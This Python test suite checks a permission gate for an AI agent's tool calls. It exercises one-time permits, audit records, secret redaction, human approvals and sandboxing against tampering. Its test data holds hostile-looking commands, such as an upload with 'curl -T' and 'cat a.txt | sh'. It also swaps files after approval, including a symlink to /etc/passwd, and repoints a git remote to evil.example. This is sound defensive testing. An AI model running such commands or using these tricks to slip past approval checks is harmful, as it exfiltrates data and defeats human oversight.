"""A verdict, a permit, a receipt, an outcome: the whole path in process, and every way to break it."""

import asyncio
import json
import os
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit.entry import canonical
from pipeline_bench import ALLOW, ASK, BLOCK, NONCE, Bench, says
from shield.actions.request import make_action
from shield.approvals.queue import MAX_PENDING
from shield.canonical import encode
from shield.errors import InputError, PermitError, Reason, RecordError, RefusedError
from shield.permits import PERMIT_SECONDS, verify_receipt
from shield.pipeline.bodies import view
from shield.pipeline.judge import judge
from shield.pipeline.redacted import Known
from shield.types import (
    Answer,
    ApprovalAnswer,
    ApprovalState,
    Decision,
    Facts,
    FileRole,
    Isolation,
    Outcome,
    OutcomePart,
    OutcomeStatus,
    Tier,
    confined_env,
)

YES = ApprovalAnswer(approve=True)


@pytest.fixture
def bench(tmp_path):
    found = Bench(tmp_path)
    (found.workspace / "a.txt").write_text("hello\n")
    yield found
    found.close()


def run(coroutine):
    return asyncio.run(asyncio.wait_for(coroutine, 60))


def refused(coroutine):
    with pytest.raises(PermitError) as caught:
        run(coroutine)
    return caught.value.reason


# --- the straight path -----------------------------------------------------------------------------------------------


def test_from_proposal_to_outcome(bench):
    async def main():
        request, verdict = await bench.evaluate(tool_call_id="call_7")
        assert (verdict.decision, verdict.tier, verdict.need, verdict.rule) == (Decision.ALLOW, 0, 0, "test.allow")
        assert (verdict.seq, verdict.action_hash) == (0, request.action.hash)
        assert verdict.expires_at == verdict.evaluated_at + PERMIT_SECONDS * 1000
        receipt = verify_receipt(await bench.redeem(verdict, request), bench.pipeline.public_key)
        assert (receipt.act, receipt.nonce, receipt.seq) == (request.action.hash, NONCE, 1)
        (file,) = receipt.files
        assert (file.role, file.path) == (FileRole.READ, str(bench.workspace / "a.txt"))
        assert file.ino == os.stat(file.path).st_ino
        reply = await bench.pipeline.outcome(
            Outcome(
                jti=receipt.jti,
                status=OutcomeStatus.OK,
                content=(OutcomePart(role="content", text="key AKIAQ7RZ5XW2M4N6T3VB ok"),),
            ),
            owner="tok",
        )
        assert reply.content[0].text == "key [redacted aws_access_key] ok"
        assert reply.redactions[0].kind == "aws_access_key"
        again = await bench.pipeline.outcome(Outcome(jti=receipt.jti, status=OutcomeStatus.ERROR), owner="tok")
        assert again == reply
        return receipt

    receipt = run(main())
    assert bench.log.kinds() == ["decision", "executing", "outcome"]
    assert [record["ref"] for record in bench.log.records] == [None, 0, 1]
    assert {record["call_id"] for record in bench.log.records} == {receipt.jti}
    assert bench.log.records[0]["body"]["permit"] == receipt.jti
    assert bench.sessions.facts(bench.session).counts == {"read_file": 1}


def test_a_block_has_no_permit_and_is_recorded(bench):
    bench.rules.opinion = BLOCK
    _, verdict = run(bench.evaluate())
    assert (verdict.decision, verdict.permit, verdict.rule) == (Decision.BLOCK, None, "test.block")
    assert bench.log.kinds() == ["decision"]


def test_without_a_session_nothing_is_permitted(bench):
    _, verdict = run(bench.evaluate("load_tools", {}, session=None))
    assert (verdict.decision, verdict.permit) == (Decision.ALLOW, None)


def test_protection_beats_every_policy(bench):
    _, verdict = run(bench.evaluate(payload={"path": str(bench.home / "state.db")}))
    assert (verdict.decision, verdict.rule, verdict.tier) == (Decision.BLOCK, "protection.shield_state", 0)
    os.symlink(bench.home, bench.workspace / "innocent")
    _, verdict = run(bench.evaluate(payload={"path": "innocent/state.db"}))
    assert verdict.rule == "protection.shield_state"


@pytest.mark.parametrize(
    ("type", "payload", "rule", "decision"),
    [
        ("read_file", {}, "input.payload", Decision.BLOCK),
        ("copy_file", {"source": "a"}, "input.payload", Decision.BLOCK),
        ("http_request", {"url": "notaurl"}, "input.payload", Decision.BLOCK),
        ("http_request", {"url": "https://"}, "input.payload", Decision.BLOCK),
        ("read_file", {"path": ["a"]}, "input.malformed", Decision.ESCALATE),
        ("frobnicate", {"x": 1}, "input.type", Decision.ESCALATE),
        ("mcp:files/read_file", {"path": "a.txt"}, "input.type", Decision.ESCALATE),
        ("execute_command", {"command": "$cmd x"}, None, Decision.ESCALATE),
        ("execute_command", {"command": "echo 'x"}, "facts.code", Decision.ESCALATE),
        ("execute_command", {"command": "python3 -c 'import ctypes'"}, "facts.runs_code", Decision.ESCALATE),
    ],
)
def test_the_floor_holds_under_a_policy_that_allows_everything(bench, type, payload, rule, decision):
    _, verdict = run(bench.evaluate(type, payload))
    assert verdict.decision is decision
    assert verdict.permit is None
    if rule is not None:
        assert verdict.rule == rule
    if decision is Decision.ESCALATE:
        assert verdict.need == 3


@pytest.mark.parametrize("min_tier", [1, 2, 3])
def test_min_tier_can_only_raise(bench, min_tier):
    _, verdict = run(bench.evaluate(min_tier=min_tier))
    assert (verdict.decision, verdict.need) == (Decision.ESCALATE, 3)


# --- recording -------------------------------------------------------------------------------------------------------


def test_no_record_no_verdict(bench):
    bench.log.fail = True
    _, verdict = run(bench.evaluate())
    assert (verdict.decision, verdict.rule, verdict.seq, verdict.permit) == (
        Decision.BLOCK, "audit.unavailable", None, None,
    )  # fmt: skip
    bench.log.fail = False
    _, verdict = run(bench.evaluate())
    assert verdict.decision is Decision.ALLOW


def test_no_record_no_receipt_and_the_permit_is_gone(bench):
    async def main():
        request, verdict = await bench.evaluate()
        bench.log.only = "executing"
        with pytest.raises(RecordError):
            await bench.redeem(verdict, request)
        bench.log.only = None
        with pytest.raises(PermitError) as caught:
            await bench.redeem(verdict, request)
        return caught.value.reason

    assert run(main()) is Reason.PERMIT_USED


def test_no_record_no_outcome(bench):
    async def main():
        request, verdict = await bench.evaluate()
        receipt = verify_receipt(await bench.redeem(verdict, request), bench.pipeline.public_key)
        bench.log.only = "outcome"
        with pytest.raises(RecordError):
            await bench.pipeline.outcome(Outcome(jti=receipt.jti, status=OutcomeStatus.OK), owner="tok")
        bench.log.only = None
        assert (await bench.pipeline.outcome(Outcome(jti=receipt.jti, status=OutcomeStatus.OK), owner="tok")).seq == 2

    run(main())


def test_arguments_and_secrets_never_reach_the_log_in_clear(bench):
    secret = "ghp_" + "a1B2" * 9
    text = "x" * 5_000
    run(bench.evaluate("write_file", {"path": "b.txt", "content": f"token {secret} {text}"}, intent=f"use {secret}"))
    assert secret not in str(bench.log.records)
    assert text not in str(bench.log.records)
    body = bench.log.records[0]["body"]
    assert len(body["args"]["commit"]) == 64
    # salted: the same action twice commits to two values
    run(bench.evaluate("write_file", {"path": "b.txt", "content": f"token {secret} {text}"}))
    assert bench.log.records[1]["body"]["args"]["commit"] != body["args"]["commit"]
    assert "action_hash" not in body


@given(
    st.dictionaries(
        st.text(max_size=300),
        st.text(max_size=9_000) | st.integers() | st.floats(allow_nan=False, allow_infinity=False),
        max_size=30,
    )
)
def test_any_payload_fits_a_record(payload):
    action = make_action("notify", payload, None)
    shown = view(action, Known(action, Facts()))
    assert len(canonical(shown)) <= 9_000
    assert not any(isinstance(item, float) for item in json.loads(encode(shown, max_nodes=10**6)).values())


# --- redeeming -------------------------------------------------------------------------------------------------------


def test_once(bench):
    async def main():
        request, verdict = await bench.evaluate()
        tries = await asyncio.gather(*(bench.redeem(verdict, request) for _ in range(8)), return_exceptions=True)
        assert sum(isinstance(item, str) for item in tries) == 1
        assert {item.reason for item in tries if not isinstance(item, str)} == {Reason.PERMIT_USED}

    run(main())
    assert bench.log.kinds().count("executing") == 1
    assert bench.log.kinds().count("refused") == 7
    assert bench.sessions.facts(bench.session).counts == {"read_file": 1}


def test_in_time_by_the_clock_that_cannot_be_set_back(bench):
    request, verdict = run(bench.evaluate())
    bench.later(PERMIT_SECONDS)
    bench.now_ms -= 10_000_000
    assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_EXPIRED


def test_the_clock_of_permits_goes_on_while_the_machine_sleeps():
    """In a time namespace whose clock of all time since the boot is an hour ahead of the one that stops in sleep."""
    code = (
        "import time; from shield.pipeline.ports import system_clock;"
        " print(system_clock().monotonic_ns() - time.monotonic_ns())"
    )
    done = subprocess.run(
        ["unshare", "--time", "--boottime", "3600", sys.executable, "-c", code],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    if done.returncode != 0 and "unshare" in done.stderr:
        pytest.skip(f"this user or kernel makes no time namespace: {done.stderr.strip()[:120]}")
    assert int(done.stdout) == pytest.approx(3600e9, abs=60e9)


@pytest.mark.parametrize(
    "changes",
    [
        {"type": "write_file"},
        {"payload": {"path": "b.txt"}},
        {"payload": {"path": "a.txt", "x": 1}},
        {"cwd": "/"},
        {"cwd": None},
    ],
)
def test_the_same_bytes(bench, changes):
    request, verdict = run(bench.evaluate())
    assert refused(bench.redeem(verdict, request, **changes)) is Reason.PERMIT_MISMATCH


def test_another_token_a_forged_and_a_foreign_permit(bench, tmp_path):
    request, verdict = run(bench.evaluate())
    assert refused(bench.redeem(verdict, request, owner="other")) is Reason.PERMIT_MISMATCH
    assert refused(bench.redeem(says(verdict, permit=verdict.permit[:-4] + "AAAA"), request)) is Reason.PERMIT_MISMATCH
    (tmp_path / "second").mkdir()
    other = Bench(tmp_path / "second")
    (other.workspace / "a.txt").write_text("x")
    foreign_request, foreign = run(other.evaluate())
    assert refused(bench.redeem(foreign, foreign_request)) is Reason.PERMIT_MISMATCH
    other.close()
    with pytest.raises(InputError):
        run(bench.redeem(verdict, request, extra=1))


SWAPS = {
    "replaced": lambda ws: os.rename(ws / "other.txt", ws / "a.txt"),
    "a link now": lambda ws: ((ws / "a.txt").unlink(), os.symlink("/etc/passwd", ws / "a.txt")),
    "gone": lambda ws: (ws / "a.txt").unlink(),
    "a folder now": lambda ws: ((ws / "a.txt").unlink(), (ws / "a.txt").mkdir()),
    "a pipe now": lambda ws: ((ws / "a.txt").unlink(), os.mkfifo(ws / "a.txt")),
}


@pytest.mark.parametrize("swap", SWAPS.values(), ids=SWAPS)
def test_the_same_files(bench, swap):
    (bench.workspace / "other.txt").write_text("other")
    request, verdict = run(bench.evaluate())
    swap(bench.workspace)
    assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_STATE_CHANGED


def test_what_cannot_be_bound_is_not_permitted_whatever_the_policy_says(bench):
    os.symlink("loop", bench.workspace / "loop")
    _, verdict = run(bench.evaluate(payload={"path": "loop"}))
    assert (verdict.decision, verdict.rule, verdict.permit) == (Decision.BLOCK, "permit.state", None)


def test_an_edit_is_bound_to_the_content_it_was_judged_on(bench):
    payload = {"path": "a.txt", "old": "hello", "new": "bye"}
    request, verdict = run(bench.evaluate("edit_file", payload))
    assert verdict.decision is Decision.ALLOW
    with open(bench.workspace / "a.txt", "r+") as file:
        file.write("hello, changed in place")
    assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_STATE_CHANGED


def test_the_same_shell(bench):
    request, verdict = run(bench.evaluate())
    bench.shell.write_text("#!/bin/bash\nevil\n")
    assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_STATE_CHANGED
    bench.shell.unlink()
    assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_STATE_CHANGED


@pytest.fixture
def script(bench):
    path = bench.workspace / "run.sh"
    path.write_text("#!/bin/sh\n")
    path.chmod(0o755)
    return {"command": "./run.sh"}


@pytest.mark.parametrize("isolation", Isolation)
def test_code_of_the_workspace_runs_only_where_state_is_hidden(bench, script, isolation):
    session = bench.open(isolation=isolation)
    request, verdict = run(bench.evaluate("execute_command", script, session=session))
    if isolation is Isolation.NONE:
        assert (verdict.decision, verdict.rule) == (Decision.ESCALATE, "facts.runs_code")
        return
    assert verdict.decision is Decision.ALLOW
    assert bench.key.verify_permit(verdict.permit).iso is Isolation.STATE_HIDDEN
    # a session that offers a sandbox does not make a call run in it: each redeem says so and is held to it
    assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_ISOLATION
    assert run(bench.redeem(verdict, request, isolation=isolation))


def test_what_a_person_allowed_runs_as_it_was_shown(bench, script):
    async def main():
        _, verdict = await bench.evaluate("execute_command", script)
        await bench.pipeline.answer(verdict.approval, YES, by="ana")
        return await bench.pipeline.current(verdict.evaluation, owner="tok", wait_s=0)

    allowed = run(main())
    assert bench.key.verify_permit(allowed.permit).iso is Isolation.NONE


def test_a_confined_command_is_told_of_its_proxy(bench, script):
    session = bench.open(isolation=Isolation.CONFINED)
    for isolation in (Isolation.STATE_HIDDEN, Isolation.CONFINED):
        request, verdict = run(bench.evaluate("execute_command", script, session=session))
        receipt = verify_receipt(run(bench.redeem(verdict, request, isolation=isolation)), bench.key.public)
        told = dict(session.env) | (confined_env(os.geteuid()) if isolation is Isolation.CONFINED else {})
        assert dict(receipt.env) == told
    request, verdict = run(bench.evaluate(session=session))
    receipt = verify_receipt(run(bench.redeem(verdict, request, isolation=Isolation.CONFINED)), bench.key.public)
    assert dict(receipt.env) == dict(session.env)


def test_work_beside_it_changes_nothing(bench):
    """Other files come and go in the same folder: the permit to write there holds."""
    request, verdict = run(bench.evaluate("write_file", {"path": "new.txt", "content": "x"}))
    (bench.workspace / "neighbour.txt").write_text("y")
    (bench.workspace / "a.txt").unlink()
    assert run(bench.redeem(verdict, request))


def test_the_policy_of_the_moment_counts(bench):
    request, verdict = run(bench.evaluate())
    for changed in (BLOCK, ASK, says(ALLOW, need=Tier.CLASSIFIER)):
        bench.rules.opinion = changed
        assert refused(bench.redeem(verdict, request)) is Reason.PERMIT_POLICY
    bench.rules.opinion = ALLOW
    assert run(bench.redeem(verdict, request))


def test_counts_hold_under_concurrency(bench):
    """A rule of at most three calls lets three of ten concurrent ones through."""
    bench.rules.opinion = lambda action, facts: ALLOW if facts.session.counts.get("read_file", 0) < 3 else BLOCK

    async def main():
        asked = [await bench.evaluate() for _ in range(10)]
        tries = await asyncio.gather(
            *(bench.redeem(verdict, request) for request, verdict in asked), return_exceptions=True
        )
        return sum(isinstance(item, str) for item in tries)

    assert run(main()) <= 3
    assert bench.sessions.facts(bench.session).counts["read_file"] == bench.log.kinds().count("executing")


def test_a_verdict_never_outlives_an_error_in_judging(bench):
    def broken(action, facts):
        raise ZeroDivisionError

    bench.rules.opinion = broken
    _, verdict = run(bench.evaluate())
    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, "internal")


def test_outcomes_need_a_redeemed_permit(bench):
    async def main():
        request, verdict = await bench.evaluate()
        claims = bench.key.verify_permit(verdict.permit)
        for jti, owner in ((claims.jti, "tok"), ("01UNKNOWN", "tok")):
            with pytest.raises(RefusedError) as caught:
                await bench.pipeline.outcome(Outcome(jti=jti, status=OutcomeStatus.OK), owner=owner)
            assert caught.value.reason is Reason.OUTCOME_NO_PERMIT
        await bench.redeem(verdict, request)
        with pytest.raises(RefusedError):
            await bench.pipeline.outcome(Outcome(jti=claims.jti, status=OutcomeStatus.OK), owner="other")

    run(main())


# --- a person --------------------------------------------------------------------------------------------------------


def test_an_approved_action_is_judged_again_and_runs_once(bench):
    bench.rules.opinion = ASK

    async def main():
        request, asked = await bench.evaluate()
        assert (asked.decision, asked.permit, asked.need) == (Decision.ESCALATE, None, 3)
        assert await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0) == asked
        waiting = asyncio.create_task(bench.pipeline.current(asked.evaluation, owner="tok", wait_s=30))
        await bench.pipeline.answer(asked.approval, YES, by="person")
        verdict = await waiting
        assert (verdict.decision, verdict.tier, verdict.rule) == (Decision.ALLOW, 3, "person.approved")
        assert (verdict.evaluation, verdict.id) == (asked.evaluation, asked.id)
        # asking again gives the same permit, not another one
        assert (await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)).permit == verdict.permit
        assert await bench.redeem(verdict, request)
        bench.later(PERMIT_SECONDS + 1)
        after = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert after.permit == verdict.permit
        with pytest.raises(PermitError):
            await bench.redeem(after, request)

    run(main())
    assert bench.log.kinds() == ["decision", "approval", "decision", "executing", "refused"]


def test_an_approval_outlives_an_unused_permit_once(bench):
    bench.rules.opinion = ASK

    async def main():
        request, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, YES, by="person")
        first = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        bench.later(PERMIT_SECONDS + 1)
        second = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert second.permit != first.permit
        assert await bench.redeem(second, request)
        with pytest.raises(PermitError) as caught:
            await bench.redeem(first, request)
        assert caught.value.reason is Reason.PERMIT_USED

    run(main())


def test_an_approval_of_something_that_changed_since_is_asked_again(bench):
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate("edit_file", {"path": "a.txt", "old": "hello", "new": "bye"})
        (bench.workspace / "a.txt").write_text("hello evil\n")
        await bench.pipeline.answer(asked.approval, YES, by="person")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (verdict.decision, verdict.permit) == (Decision.ESCALATE, None)
        assert verdict.approval != asked.approval

    run(main())


def test_an_approval_lapses(bench):
    """An agent that keeps a yes for hours is asked about again."""
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, YES, by="person")
        first = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        bench.later(299)
        second = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert second.permit not in (None, first.permit)
        bench.later(PERMIT_SECONDS + 1)
        late = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (late.decision, late.permit) == (Decision.ESCALATE, None)
        assert late.approval != asked.approval

    run(main())


def test_a_permit_that_ran_out_is_not_handed_out_again_although_the_clock_was_set_back(bench):
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, YES, by="person")
        first = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        bench.later(PERMIT_SECONDS)
        bench.now_ms -= 86_400_000
        second = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert second.permit not in (None, first.permit)

    run(main())


def test_an_approval_lapses_although_the_clock_was_set_back(bench):
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, YES, by="person")
        bench.later(300)
        bench.now_ms -= 86_400_000
        late = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (late.decision, late.permit) == (Decision.ESCALATE, None)
        assert late.approval != asked.approval

    run(main())


def pushes(bench, host):
    """A repository whose `origin` is at `host`, and the call that pushes there."""
    (bench.workspace / ".git/refs").mkdir(parents=True, exist_ok=True)
    (bench.workspace / ".git/objects").mkdir(exist_ok=True)
    (bench.workspace / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (bench.workspace / ".git/config").write_text(f'[remote "origin"]\n\turl = https://{host}/a.git\n')
    return "execute_command", {"command": "git push origin main"}


def test_an_approval_of_another_place_than_was_shown_is_asked_again(bench):
    """Where a remote is stands in the repository's settings, which no permit binds: what was shown of it is bound."""
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate(*pushes(bench, "good.example"))
        hosts = bench.pipeline.approvals.get(asked.approval).facts["hosts"]
        assert [host["host"] for host in hosts] == ["good.example"]
        pushes(bench, "evil.example")
        await bench.pipeline.answer(asked.approval, YES, by="person")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (verdict.decision, verdict.permit) == (Decision.ESCALATE, None)
        hosts = bench.pipeline.approvals.get(verdict.approval).facts["hosts"]
        assert [host["host"] for host in hosts] == ["evil.example"]

    run(main())


@pytest.mark.parametrize(
    "command", ["sh < a.txt", "pip install -r a.txt", "curl -T a.txt https://up.example/", "cat a.txt | sh"]
)
def test_an_approval_of_code_or_an_upload_is_of_the_file_as_it_was(bench, command):
    """Written in place, it is the same file; and the agent itself may write it while a person reads."""
    bench.rules.opinion = ASK

    async def main():
        request, asked = await bench.evaluate("execute_command", {"command": command})
        await bench.pipeline.answer(asked.approval, YES, by="person")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert verdict.permit
        (bench.workspace / "a.txt").write_text("echo evil\n")
        with pytest.raises(PermitError) as caught:
            await bench.redeem(verdict, request)
        assert caught.value.reason is Reason.PERMIT_STATE_CHANGED
        bench.later(PERMIT_SECONDS + 1)
        again = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (again.decision, again.permit) == (Decision.ESCALATE, None)
        assert again.approval != asked.approval

    run(main())


def test_an_approval_of_a_look_at_a_file_is_of_whatever_it_holds(bench):
    """A log may grow while a person thinks."""
    bench.rules.opinion = ASK

    async def main():
        request, asked = await bench.evaluate("execute_command", {"command": "tail a.txt"})
        await bench.pipeline.answer(asked.approval, YES, by="person")
        (bench.workspace / "a.txt").write_text("one more line\n")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert await bench.redeem(verdict, request)

    run(main())


def test_a_permit_of_another_place_than_was_shown_is_refused(bench):
    bench.rules.opinion = ASK

    async def main():
        request, asked = await bench.evaluate(*pushes(bench, "good.example"))
        await bench.pipeline.answer(asked.approval, YES, by="person")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        pushes(bench, "evil.example")
        with pytest.raises(PermitError) as caught:
            await bench.redeem(verdict, request)
        assert caught.value.reason is Reason.PERMIT_STATE_CHANGED
        pushes(bench, "good.example")
        assert await bench.redeem(verdict, request)

    run(main())


def test_an_approval_under_another_policy_is_asked_again_and_a_block_stays_one(bench):
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, YES, by="person")
        bench.rules.digest = "sha256:" + "1" * 64
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert verdict.decision is Decision.ESCALATE
        await bench.pipeline.answer(verdict.approval, YES, by="person")
        bench.rules.opinion = BLOCK
        blocked = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (blocked.decision, blocked.rule) == (Decision.BLOCK, "test.block")

    run(main())


def test_a_person_does_not_outweigh_a_block_that_came_later(bench):
    bench.rules.opinion = ASK

    async def main():
        request, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, YES, by="person")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        bench.rules.opinion = BLOCK
        with pytest.raises(PermitError) as caught:
            await bench.redeem(verdict, request)
        assert caught.value.reason is Reason.PERMIT_POLICY

    run(main())


def test_a_refusal_and_a_silence_are_blocks(bench):
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate()
        await bench.pipeline.answer(asked.approval, ApprovalAnswer(approve=False, note="not on a friday"), by="p")
        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
        assert (verdict.decision, verdict.rule, verdict.advice) == (Decision.BLOCK, "person.denied", "not on a friday")
        _, silent = await bench.evaluate()
        bench.later(301)
        verdict = await bench.pipeline.current(silent.evaluation, owner="tok", wait_s=0)
        assert (verdict.decision, verdict.rule) == (Decision.BLOCK, "approval.timeout")
        assert bench.pipeline.approvals.get(silent.approval).state is ApprovalState.EXPIRED

    run(main())


def test_too_many_open_questions_are_no_verdict(bench):
    bench.rules.opinion = ASK

    async def main():
        for _ in range(MAX_PENDING):
            await bench.evaluate()
        with pytest.raises(RefusedError) as caught:
            await bench.evaluate()
        assert caught.value.reason is Reason.ADMISSION_APPROVALS
        assert len(bench.log.records) == MAX_PENDING

    run(main())


def test_nobody_to_ask_is_a_block_at_once(tmp_path):
    bench = Bench(tmp_path, configured=False)
    bench.rules.opinion = ASK
    _, verdict = run(bench.evaluate())
    assert (verdict.decision, verdict.rule, verdict.approval) == (Decision.BLOCK, "no_approver", None)
    assert "a person decides" in verdict.reason
    bench.close()


def test_nobody_is_asked_about_a_decision_that_is_not_recorded(bench):
    bench.rules.opinion = ASK
    bench.log.only = "decision"

    async def main():
        _, verdict = await bench.evaluate()
        assert verdict.rule == "audit.unavailable"
        assert bench.pipeline.approvals.pending() == ()

    run(main())
    assert bench.store.pending_approvals() == ()


def test_an_answer_names_the_decision_that_asked(bench):
    bench.rules.opinion = ASK

    async def main():
        answering = asyncio.create_task(bench.pipeline.approvals.wait(30))
        _, asked = await bench.evaluate()
        await answering
        await bench.pipeline.answer(asked.approval, YES, by="person")
        assert bench.log.records[-1]["ref"] == asked.seq

    run(main())


def test_an_answer_that_is_not_recorded_leads_to_nothing(bench):
    bench.rules.opinion = ASK

    async def main():
        _, asked = await bench.evaluate()
        bench.log.only = "approval"
        with pytest.raises(RecordError):
            await bench.pipeline.answer(asked.approval, YES, by="person")
        assert (await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)).decision is Decision.ESCALATE

    run(main())


def test_evaluations_belong_to_their_token(bench):
    async def main():
        _, verdict = await bench.evaluate()
        for evaluation, owner in ((verdict.evaluation, "other"), ("01X", "tok")):
            with pytest.raises(RefusedError) as caught:
                await bench.pipeline.current(evaluation, owner=owner, wait_s=0)
            assert caught.value.reason is Reason.EVALUATION_UNKNOWN

    run(main())


# --- sessions --------------------------------------------------------------------------------------------------------


def test_workspaces_are_trusted_directories_only(bench, tmp_path):
    def refusal(root):
        with pytest.raises((RefusedError, InputError)) as caught:
            bench.sessions.open((root,), Isolation.NONE, None, owner="tok", agent="a")
        return caught.value.reason

    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere", bench.workspace / "way-out")
    os.symlink(bench.home, bench.workspace / "state")
    untrusted = ["/", str(tmp_path), str(tmp_path / "elsewhere"), str(bench.home), str(bench.workspace / "way-out"),
                 str(bench.workspace / "state"), str(bench.workspace / "..")]  # fmt: skip
    assert {refusal(root) for root in untrusted} == {Reason.WORKSPACE_UNTRUSTED}
    assert {refusal(root) for root in ("relative", str(tmp_path / "missing"), str(bench.workspace / "a.txt"))} == {
        Reason.INPUT_FIELD
    }
    (bench.workspace / "deeper").mkdir()
    bench.sessions.open((str(bench.workspace / "deeper"),), Isolation.NONE, None, owner="tok", agent="a")


def test_the_trusted_home_directory_is_still_no_workspace(bench):
    bench.sessions._trusted = lambda: ("/",)
    for root in ("/", str(bench.home.parent)):
        with pytest.raises(RefusedError):
            bench.sessions.open((root,), Isolation.NONE, None, owner="tok", agent="a")


def test_a_directory_above_the_state_is_no_workspace(bench):
    bench.sessions._shield_home = str(bench.workspace / "deep" / "state")
    with pytest.raises(RefusedError):
        bench.open()


def test_sessions_belong_to_their_token(bench):
    assert bench.sessions.get(bench.session.id, owner="tok") == bench.session
    with pytest.raises(RefusedError):
        bench.sessions.get(bench.session.id, owner="other")


def test_isolation_is_checked_at_redeem(bench):
    from dataclasses import replace as changed

    request, verdict = run(bench.evaluate())
    issued = bench.pipeline._evaluator.ledger.issued(bench.key.verify_permit(verdict.permit).jti)
    issued.permit = changed(issued.permit, iso=Isolation.CONFINED)
    verdict = changed(verdict, permit=bench.key.sign_permit(issued.permit))
    assert refused(bench.redeem(verdict, request, isolation=Isolation.STATE_HIDDEN)) is Reason.PERMIT_ISOLATION
    assert run(bench.redeem(verdict, request, isolation=Isolation.CONFINED))


def test_an_opinion_of_code_names_the_verdict_before_policy_does(bench):
    place = bench.place(bench.request(), bench.session)
    judged = judge(bench.request("read_file", {}), place, bench.rules, agent="a", now_ms=0)
    assert judged.opinions[0].rule == "input.payload"
    assert judged.opinions[-1].answer is Answer.ALLOW


def test_a_trusted_name_that_leads_elsewhere_is_trusted_no_more(bench):
    """Code of the workspace may swap it for a link, for the next session to begin somewhere else."""
    elsewhere = bench.workspace.parent / "elsewhere"
    elsewhere.mkdir()
    bench.workspace.rename(bench.workspace.parent / "moved")
    bench.workspace.symlink_to(elsewhere)
    with pytest.raises(RefusedError) as refusal:
        bench.open()
    assert refusal.value.reason is Reason.WORKSPACE_UNTRUSTED
